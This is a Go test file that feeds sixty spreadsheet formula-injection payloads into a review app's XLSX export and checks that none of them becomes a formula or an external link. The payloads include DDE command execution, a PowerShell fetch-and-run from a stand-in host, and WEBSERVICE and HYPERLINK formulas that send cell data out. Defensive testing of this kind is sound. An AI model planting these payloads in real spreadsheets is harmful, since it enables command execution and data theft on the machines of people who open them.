package survival

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"regexp"
	"strings"
	"testing"

	"followup/app/draft"
	"followup/app/kind"
	"followup/app/rounds"
	"followup/app/store"
	"followup/assets"
	"followup/export"
)

// payloads are words that a spreadsheet would calculate, open, send or run if it took
// them for a formula: sixty ways that are known from reports and from the programs'
// own languages.
func payloads() []string {
	plain := []string{
		`=1+1`, `+1+1`, `-1+1`, `@SUM(1,1)`, `=SUM(A1:A9)`, `=cmd|' /C calc'!A0`, `=cmd|'/C powershell IEX(wget e.nz/x)'!A0`,
		`=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''`, `+cmd|' /C calc'!A0`, `-cmd|' /C calc'!A0`, `@cmd|' /C calc'!A0`,
		`=HYPERLINK("http://e.nz?x="&A1,"Here")`, `=WEBSERVICE("http://e.nz/"&A1)`, `=IMPORTXML("http://e.nz","//a")`, `=IMPORTDATA("http://e.nz")`,
		`=IMAGE("http://e.nz/x.png")`, `=FILTERXML(WEBSERVICE("http://e.nz"),"//x")`, `=RTD("x",,"y")`, `=DDE("cmd";"/C calc";"x")`,
		`=EXEC("calc")`, `=CALL("Kernel32","WinExec","JCJ","calc",0)`, `=REGISTER.ID("Kernel32","WinExec")`, `=INDIRECT("A1")`, `=INFO("directory")`,
		`=CELL("filename")`, `='file:///etc/passwd'#$passwd.A1`, `=[x.xlsx]Sheet1!A1`, `='\\e.nz\x\[b.xlsx]S'!A1`, `{=1+1}`, `{=SUM(A1:A2*B1:B2)}`,
		`=1+1+cmd|' /C calc'!A0`, `=-2+3`, `=+2+3`, `=@SUM(1)`, `=A1`, `=R1C1`, `==1+1`, `=TRUE`, `=#REF!`, `=LAMBDA(x,x)(1)`, `=LET(a,1,a)`,
		`=UNICHAR(61)`, `=OR(1)`, `=NOW()`, `=RAND()`, `=TODAY()`,
	}
	disguised := []string{
		"\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "\"=1+1", "'=1+1", ";=1+1", ",=1+1", "%0A=1+1", "_x003D_1+1",
	}
	return append(plain, disguised...)
}

// infected returns a review in which every text of every item is a payload; what must
// be one of a kind gets its number behind it.
func infected(t *testing.T, sample, payload string) (*draft.Review, int) {
	t.Helper()
	data, err := assets.Read("samples/sample-" + sample + ".followup")
	if err != nil {
		t.Fatal(err)
	}
	r, err := store.Decode(data) // read anew each time: it belongs to this test alone
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	infect := func(_ draft.ID, field string, _ draft.TextKind, text *string) {
		n++
		*text = draft.Enter(payload)
		if field == "reference" {
			*text += fmt.Sprintf(" %d", n)
		}
	}
	draft.Texts(r.About, infect)
	draft.Texts(r.Ledger, infect)
	infectAll(r.Recommendations, infect)
	infectAll(r.Actions, infect)
	infectAll(r.Indicators, infect)
	infectAll(r.Engagement, infect)
	infectAll(r.Papers, infect)
	return r, n
}

func infectAll[T any](list []*T, infect func(draft.ID, string, draft.TextKind, *string)) {
	for _, item := range list {
		draft.Texts(item, infect)
	}
}

// book is a workbook that leaves the program.
type book struct {
	name string
	data []byte
}

// books makes every workbook of a review: the review's own, with internal notes, and
// what each round sends to an agency.
func books(t *testing.T, r *draft.Review, tables *kind.Tables) []book {
	t.Helper()
	dir := t.TempDir()
	report, err := export.Run(context.Background(), export.Request{
		Review: r, Paper: r.Papers[0], Tables: tables, Dir: dir, Base: "x", Internal: true, Formats: []export.Format{export.XLSX},
	}, nil)
	if err != nil || len(report.Written) != 1 {
		t.Fatalf("%+v %v", report, err)
	}
	data, err := os.ReadFile(report.Written[0].Path)
	if err != nil {
		t.Fatal(err)
	}
	list := []book{{"review", data}}
	for _, round := range tables.Rounds {
		sending := rounds.NewSending(r.Recommendations[0].LeadAgency, round.Code, "2027-06-30")
		sending.Contact = r.About.Title
		data, _, err := export.SendBook(r, tables, sending, "2027-06-03", "")
		if err != nil {
			continue // nothing to ask of this agency in that round
		}
		list = append(list, book{round.Code, data})
	}
	return list
}

var (
	formulaCell = regexp.MustCompile(`<f[ >/]`)
	rule        = regexp.MustCompile(`<(?:formula|formula1|formula2|definedName)[^>]*>([^<]*)<`)
)

// No text of a review becomes a formula in any workbook, nor gets into a rule for a
// cell, a name or a link to elsewhere.
func TestNoTextBecomesAFormula(t *testing.T) {
	tables, err := kind.Load()
	if err != nil {
		t.Fatal(err)
	}
	all := payloads()
	if len(all) != 60 {
		t.Fatalf("%d payloads", len(all))
	}
	tried, workbooks, texts := 0, 0, 0
	for i, payload := range all {
		if !full() && i%10 != 0 {
			continue
		}
		sample := []string{"mid-term", "one-year-update"}[i%2]
		if full() && i%5 == 0 {
			sample = []string{"cabinet-response", "upr-response"}[i%2]
		}
		tried++
		r, n := infected(t, sample, payload)
		texts = max(texts, n)
		for _, b := range books(t, r, tables) {
			workbooks++
			for name, part := range partsOf(t, b.data) {
				if strings.HasPrefix(name, "xl/worksheets/") && formulaCell.MatchString(part) {
					t.Errorf("%q: %s: %s holds a formula", payload, b.name, name)
				}
				for _, found := range rule.FindAllStringSubmatch(part, -1) {
					if strings.Contains(found[1], "1+1") || strings.Contains(found[1], "cmd") || strings.Contains(found[1], "e.nz") {
						t.Errorf("%q: %s: %s holds the rule %s", payload, b.name, name, found[1])
					}
				}
				if strings.HasSuffix(name, ".rels") && strings.Contains(part, "External") {
					t.Errorf("%q: %s: %s leads elsewhere", payload, b.name, name)
				}
			}
		}
	}
	t.Logf("figure: formulas: %d payloads in %d texts, %d workbooks: no formula cell", tried, texts, workbooks)
}

// partsOf unpacks a workbook.
func partsOf(t *testing.T, data []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		part, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		parts[f.Name] = string(part)
	}
	return parts
}
